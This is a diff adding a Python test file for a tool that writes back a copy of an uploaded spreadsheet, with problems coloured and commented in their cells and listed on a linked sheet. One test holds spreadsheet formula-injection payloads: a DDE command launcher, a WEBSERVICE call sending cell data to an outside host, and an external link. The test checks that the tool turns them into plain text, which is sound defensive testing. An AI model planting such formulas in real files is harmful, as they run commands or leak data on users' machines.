@@ -1,0 +1,103 @@
+"""The copy of a workbook with what is wrong marked in its cells, read back."""
+
+import io
+
+import openpyxl
+import pytest
+from loaders_files import bytes_of, changed_part, table, workbook
+
+from loaders.marked_copy import marked_copy
+from loaders.marking import FILLS, Labels, Mark
+
+LABELS = Labels("Daftar masalah", "Yang perlu", "Perbaiki lalu unggah.", "Data", "Cakupan", tuple("abcd"))
+RED, YELLOW = FILLS["error"].fgColor.rgb, FILLS["warning"].fgColor.rgb
+
+
+def mark(cell: str | None, sheet: str | None = "Isian", level: str = "error", what: str = "Bukan angka") -> Mark:
+    return Mark(sheet, cell, level, level, f"{sheet} {cell}", what, "Isi dengan angka")
+
+
+def marked(data: bytes, *marks: Mark) -> openpyxl.Workbook:
+    return openpyxl.load_workbook(io.BytesIO(marked_copy(data, marks, LABELS)))
+
+
+def test_cells_are_coloured_and_say_what_is_wrong_and_the_list_links_to_them():
+    data = table(("16.07", "2016-09", "PBI", "tiga ribu", None), ("16.07", "2016-10", "PBI", 5, None))
+    book = marked(data, mark("D2"), mark("B3", level="warning", what="Bulan di depan"))
+    sheet = book["Isian"]
+    assert sheet["D2"].fill.fgColor.rgb == RED
+    assert sheet["B3"].fill.fgColor.rgb == YELLOW
+    assert sheet["D3"].fill.fill_type is None
+    assert sheet["D2"].comment.text == "error: Bukan angka\nIsi dengan angka"
+    assert (sheet["D2"].value, sheet["D3"].value) == ("tiga ribu", 5)
+    listed = book.worksheets[0]
+    assert listed.title == LABELS.sheet
+    assert [listed.cell(row, 3).value for row in (5, 6)] == ["Bukan angka", "Bulan di depan"]
+    assert listed["B5"].hyperlink.location == "'Isian'!D2"
+
+
+def test_looks_of_a_workbook_are_kept_and_its_formulas_with_them():
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.title = "Isian"
+    sheet["A1"], sheet["A2"], sheet["A3"] = 2, "=A1*2", "=1+1"
+    sheet["A3"].data_type = "s"
+    sheet["A1"].font = openpyxl.styles.Font(bold=True)
+    sheet.column_dimensions["A"].width = 31
+    sheet.merge_cells("C1:D2")
+    sheet["C1"] = "judul"
+    copy = marked(bytes_of(book), mark("D2"))["Isian"]
+    assert copy["A1"].font.bold
+    assert copy.column_dimensions["A"].width == 31
+    assert (copy["A2"].data_type, copy["A3"].data_type) == ("f", "s")
+    assert copy["A3"].value == "=1+1"
+    assert copy["C1"].fill.fgColor.rgb == RED
+    assert copy["C1"].comment.text.startswith("error")
+
+
+@pytest.mark.parametrize("formula", ["=cmd|'/C calc'!A0", '=WEBSERVICE("http://x/"&A1)', "=[1]Lain!A1"])
+def test_formula_that_reaches_out_becomes_text(formula):
+    copy = marked(workbook({"Isian": [[formula]]}), mark("A1"))["Isian"]
+    assert copy["A1"].data_type == "s"
+    assert copy["A1"].value == formula
+
+
+def test_csv_becomes_a_workbook_whose_text_stays_text():
+    data = b"nama;jumlah\n=1+1;1.234\n+62;x\n"
+    copy = marked(data, mark("B3", sheet=None))
+    sheet = copy[LABELS.data]
+    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
+        ["nama", "jumlah"],
+        ["=1+1", "1.234"],
+        ["+62", "x"],
+    ]
+    assert sheet["A2"].data_type == "s"
+    assert sheet["B3"].fill.fgColor.rgb == RED
+
+
+def test_range_is_coloured_whole_and_a_problem_without_a_cell_is_only_listed():
+    copy = marked(table(("16.07", "2016-09", "PBI", 3, None)), mark("A1:C1"), mark(None, sheet=None, what="Kosong"))
+    assert {copy["Isian"].cell(1, column).fill.fgColor.rgb for column in (1, 2, 3)} == {RED}
+    assert copy["Isian"]["B1"].comment is None
+    assert copy.worksheets[0]["C6"].value == "Kosong"
+    assert copy.worksheets[0]["B6"].hyperlink is None
+
+
+def test_several_problems_of_one_cell_stand_in_one_comment_and_the_gravest_colours_it():
+    copy = marked(table(("16.07", "2016-09", "PBI", 3, None)), mark("D2"), mark("D2", level="warning", what="Besar"))
+    assert copy["Isian"]["D2"].fill.fgColor.rgb == RED
+    assert all(words in copy["Isian"]["D2"].comment.text for words in ("Bukan angka", "Besar"))
+
+
+def test_workbook_that_cannot_be_opened_with_its_looks_is_written_from_its_values():
+    data = table(("16.07", "2016-09", "PBI", "tiga ribu", None))
+    broken = changed_part(data, "xl/styles.xml", b"<fonts", b"<fonts count='x'")
+    copy = marked(broken, mark("D2"))
+    assert copy["Isian"]["D2"].value == "tiga ribu"
+    assert copy["Isian"]["D2"].fill.fgColor.rgb == RED
+
+
+def test_file_that_cannot_be_read_again_gives_the_list_alone():
+    copy = marked(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, mark("A1"))
+    assert copy.sheetnames == [LABELS.sheet]
+    assert copy.worksheets[0]["C5"].value == "Bukan angka"
